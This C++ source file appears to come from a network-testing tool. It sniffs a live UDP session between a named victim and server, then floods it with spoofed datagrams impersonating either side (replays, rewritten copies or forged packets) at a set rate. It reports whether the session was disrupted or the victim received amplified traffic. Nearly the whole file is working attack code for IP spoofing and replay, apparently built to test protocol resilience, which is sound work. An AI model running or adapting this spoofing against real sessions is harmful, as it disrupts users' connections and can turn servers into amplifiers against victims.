#include "session_attack.h"

#include <algorithm>
#include <chrono>
#include <sstream>
#include <thread>

#include "raw_ip.h"

namespace tickwire::spoof {
namespace {

using Clock = std::chrono::steady_clock;
using Bytes = std::vector<std::uint8_t>;

struct Watch {
  Counter to_victim;
  Counter from_victim;
  Bytes largest;  // the largest datagram in the attacked direction
};

// Reads what crossed between victim and server for `seconds`.
Watch watch(RawSniffer& sniffer, const SessionAttackConfig& c, double seconds) {
  Watch w;
  const auto end = Clock::now() + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(seconds));
  while (Clock::now() < end) {
    for (SeenDatagram& d : sniffer.drain()) {
      const bool to_victim = d.from == c.server && d.to.port == c.victim.port;
      const bool from_victim = d.from == c.victim && d.to == c.server;
      if (to_victim) w.to_victim.add(d.payload.size());
      if (from_victim) w.from_victim.add(d.payload.size());
      if ((c.toward_client ? to_victim : from_victim) && d.payload.size() > w.largest.size()) w.largest = d.payload;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  return w;
}

void judge(const SessionAttackConfig& c, SessionAttackResult& r) {
  std::ostringstream why;
  if (r.after_to_victim.packets == 0 || r.after_from_victim.packets == 0) {
    why << "the session went silent after the attack (server to victim " << r.after_to_victim.packets
        << " datagrams, victim to server " << r.after_from_victim.packets << ")";
  }
  // Answers to the victim beyond the server's own traffic: only countable
  // when our spoofed datagrams do not travel toward the victim themselves.
  if (!c.toward_client && c.watch_s > 0.0) {
    const double own = static_cast<double>(r.before_to_victim.bytes) / c.watch_s * r.attack_seconds;
    if (static_cast<double>(r.during_to_victim.bytes) > 2.0 * own + 2048.0) {
      if (why.tellp() > 0) why << "; ";
      why << "the server sent the victim " << r.during_to_victim.bytes << " bytes during the attack (about "
          << static_cast<std::uint64_t>(own) << " expected from its own traffic)";
    }
  }
  r.harm_detail = why.str();
  r.harm = !r.harm_detail.empty();
}

}  // namespace

Result<SessionAttackResult> run_session_attack(const SessionAttackConfig& c) {
  auto sender = RawSender::open();
  if (!sender) return sender.error();
  auto sniffer = RawSniffer::open();
  if (!sniffer) return sniffer.error();
  SessionAttackResult r;
  const Watch before = watch(*sniffer, c, c.watch_s);
  r.before_to_victim = before.to_victim;
  r.before_from_victim = before.from_victim;
  if (before.to_victim.packets == 0 || before.from_victim.packets == 0) {
    return Error{ErrorCode::kIo, "no session seen between " + c.victim.to_string() + " and " + c.server.to_string() +
                                     " (both ways) in " + std::to_string(c.watch_s) + " s: nothing to attack"};
  }
  if (c.attack == SessionAttack::kReplay && before.largest.empty()) {
    return Error{ErrorCode::kIo, "no datagram of the session captured to replay"};
  }
  r.captured_size = before.largest.size();

  const Ipv4Endpoint from = c.toward_client ? c.server : c.victim;
  const Ipv4Endpoint to = c.toward_client ? c.victim : c.server;
  std::mt19937_64 rng(c.seed);
  const auto start = Clock::now();
  while (r.sent < c.budget && (c.stop == nullptr || c.stop->load() == 0)) {
    const double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
    const auto due = std::min<std::uint64_t>(c.budget, static_cast<std::uint64_t>(elapsed * c.rate) + 1);
    for (; r.sent < due; ++r.sent) {
      const Bytes datagram = c.attack == SessionAttack::kReplay
                                 ? (r.sent % 4 == 0 ? before.largest : rewritten(before.largest, r.sent))
                                 : forged_session_datagram(c.attack, r.sent, rng);
      if (!sender->send(from, to, datagram)) ++r.refused;
    }
    for (const SeenDatagram& d : sniffer->drain()) {
      if (d.from == c.server && d.to.port == c.victim.port) r.during_to_victim.add(d.payload.size());
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  r.attack_seconds = std::chrono::duration<double>(Clock::now() - start).count();
  // What the server sent after the last spoofed datagram counts as during.
  const Watch settle = watch(*sniffer, c, 0.1);
  if (!c.toward_client) r.during_to_victim.packets += settle.to_victim.packets;
  if (!c.toward_client) r.during_to_victim.bytes += settle.to_victim.bytes;
  const Watch after = watch(*sniffer, c, c.watch_s);
  r.after_to_victim = after.to_victim;
  r.after_from_victim = after.from_victim;
  judge(c, r);
  return r;
}

std::string session_attack_text(const SessionAttackConfig& c, const SessionAttackResult& r) {
  std::ostringstream out;
  out << "session attack " << to_string(c.attack) << (c.toward_client ? " toward the client " : " toward the server ")
      << "(victim " << c.victim.to_string() << ", server " << c.server.to_string() << ")\n";
  out << "  sent             " << r.sent << " datagrams in " << r.attack_seconds << " s (" << r.refused
      << " refused locally)\n";
  if (c.attack == SessionAttack::kReplay) out << "  captured         " << r.captured_size << " bytes\n";
  out << "  before           server->victim " << r.before_to_victim.packets << ", victim->server "
      << r.before_from_victim.packets << " datagrams\n";
  out << "  after            server->victim " << r.after_to_victim.packets << ", victim->server "
      << r.after_from_victim.packets << " datagrams\n";
  out << "  harm             " << (r.harm ? "yes: " + r.harm_detail : std::string("none seen")) << "\n";
  return out.str();
}

std::string session_attack_json(const SessionAttackConfig& c, const SessionAttackResult& r) {
  std::ostringstream out;
  out << "{\"attack\":\"" << to_string(c.attack) << "\",\"toward_client\":" << (c.toward_client ? "true" : "false")
      << ",\"victim\":\"" << c.victim.to_string() << "\",\"server\":\"" << c.server.to_string()
      << "\",\"sent\":" << r.sent << ",\"refused\":" << r.refused << ",\"seconds\":" << r.attack_seconds
      << ",\"after_to_victim\":" << r.after_to_victim.packets
      << ",\"after_from_victim\":" << r.after_from_victim.packets
      << ",\"bytes_to_victim_during\":" << r.during_to_victim.bytes << ",\"harm\":" << (r.harm ? "true" : "false")
      << "}\n";
  return out.str();
}

}  // namespace tickwire::spoof
